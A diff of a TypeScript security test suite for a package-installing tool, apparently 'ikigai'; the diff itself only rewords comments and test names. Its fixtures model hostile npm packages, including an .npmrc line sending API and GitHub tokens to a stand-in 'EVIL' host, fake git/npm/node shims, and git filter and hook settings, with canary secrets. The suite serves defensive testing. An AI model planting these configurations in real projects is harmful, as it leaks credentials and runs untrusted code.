@@ -7,7 +7,7 @@ import { ikigai } from "./ikigai.ts";
 import { type Recorder, startRegistry } from "./npm-registry.ts";
 import { greeter, readRecord, world } from "./tool-world.ts";
 
-/** How many hostile packages are made up; more in a long run. */
+/** Number of random hostile packages; more in a thorough run. */
 const numRuns = Number(process.env.IKIGAI_TEST_RUNS ?? 4);
 
 const secrets = {
@@ -17,7 +17,7 @@ const secrets = {
   DATABASE_URL: "postgres://u:canary-0004@h/d",
 };
 
-/** What a package can bring to have something run, or something sent. `CANARY` is a program, `EVIL` a server. */
+/** Files of a package that try to run or send something. `CANARY` is a program, `EVIL` a server. */
 const tricks: Readonly<Record<string, Readonly<Record<string, string>>>> = {
   "npmrc: git": { ".npmrc": "git=CANARY\n" },
   "npmrc: registry": { ".npmrc": `registry=EVIL/\${ANTHROPIC_API_KEY}/\${GITHUB_TOKEN}/\n` },
@@ -40,7 +40,7 @@ const tricks: Readonly<Record<string, Readonly<Record<string, string>>>> = {
   programs: { git: "#!/bin/sh\nCANARY\n", npm: "#!/bin/sh\nCANARY\n", node: "#!/bin/sh\nCANARY\n" },
 };
 
-/** A lock that is right but for the address. */
+/** A valid lock except for the URL. */
 const lock = JSON.stringify({
   lockfileVersion: 3,
   packages: {
@@ -74,7 +74,7 @@ function commit(folder: string): void {
   execFileSync("sh", ["-ec", script], { cwd: folder, env: { PATH: process.env.PATH, HOME: "/nonexistent" } });
 }
 
-/** A user with a registry of their own, a token for it, and git settings that are harmless in their own repositories. */
+/** A user with a private registry, a token for it, and git settings that are harmless in their own repositories. */
 async function victim(registry: Recorder) {
   const place = await world({ "pack/": "" });
   const { root } = place;
@@ -97,11 +97,11 @@ async function victim(registry: Recorder) {
     `[core]\nhooksPath = .githooks\n[filter "user"]\nsmudge = ${program}\n[init]\ntemplateDir = hooks\n[submodule]\nrecurse = true\n`,
   );
   const env = { ...place.env, ...secrets, REGISTRY_TOKEN: "registry-token-0005", MARK: canary };
-  // Whoever has the working directory on the PATH.
+  // For users with the working directory on the PATH.
   return { ...place, canary, program, env: { ...env, PATH: `.::${process.env.PATH}` } };
 }
 
-test("nothing of a hostile package runs, and nothing is sent but to the registry, before the yes", {
+test("before approval, nothing in a hostile package runs, and only the registry gets requests", {
   timeout: 300_000,
 }, async () => {
   const registry = await startRegistry({ good: {} });
@@ -130,7 +130,7 @@ test("nothing of a hostile package runs, and nothing is sent but to the registry
       [{ names: ["filters"], isGit: true }],
     ],
   });
-  // The user's own login counts, and no update check was made.
+  // The user's own login is used, and npm made no update check.
   expect(registry.requests.join("\n")).toContain("Bearer registry-token-0005");
   expect(registry.requests.filter((request) => request.startsWith("GET /npm "))).toEqual([]);
 });
@@ -158,7 +158,7 @@ test.each([
 test.each([
   ["git", "git+EVIL/x.git"],
   ["an address", "EVIL/x.tgz"],
-])("refuses a package of the registry that depends on %s, and asks nobody for it", async (_, spec) => {
+])("refuses a registry package that depends on %s, without fetching it", async (_, spec) => {
   const evil = await startRegistry();
   const registry = await startRegistry({ good: { dependencies: { bad: spec.replace("EVIL", evil.url) } } });
   const { root, cwd, env, home } = await victim(registry);
@@ -170,7 +170,7 @@ test.each([
   }
 });
 
-test("a lock decides which version comes, the registry from where", async () => {
+test("the lock decides the version, the registry the URL", async () => {
   const registry = await startRegistry({ good: {} });
   const { root, cwd, env, home } = await victim(registry);
   writePackage(join(root, "pack"), [], {});
@@ -178,7 +178,7 @@ test("a lock decides which version comes, the registry from where", async () => 
   const { directory, lock: recorded } = readRecord(home).pack;
   const installed = join(home, "packages", directory, "node_modules/good/index.js");
   expect(readFileSync(installed, "utf8")).toContain("from the registry");
-  // The same lock with another hash: what the registry has is not what was locked.
+  // The same lock with another hash: the package in the registry is not the locked one.
   recorded.packages["node_modules/good"].integrity = `sha512-${"A".repeat(86)}==`;
   writeFileSync(join(root, "pack/package-lock.json"), JSON.stringify(recorded));
   const end = await ikigai(["tool", "update", "--yes"], { cwd, env });
@@ -186,7 +186,7 @@ test("a lock decides which version comes, the registry from where", async () => 
   expect(end.exitCode).toBe(1);
 });
 
-test("a workspace is not looked up in the registry by its name", async () => {
+test("does not look up a workspace in the registry", async () => {
   const registry = await startRegistry({ good: {} });
   const { root, cwd, env } = await victim(registry);
   writePackage(join(root, "pack"), ["workspaces"], { CANARY: "", EVIL: "" });
@@ -196,7 +196,7 @@ test("a workspace is not looked up in the registry by its name", async () => {
   expect([exitCode, registry.requests]).toEqual([1, []]);
 });
 
-test("passwords and tokens of addresses are neither printed nor written down", async () => {
+test("neither prints nor saves passwords and tokens in URLs", async () => {
   const evil = await startRegistry();
   const { cwd, env } = await victim(evil);
   const host = new URL(evil.url).host;
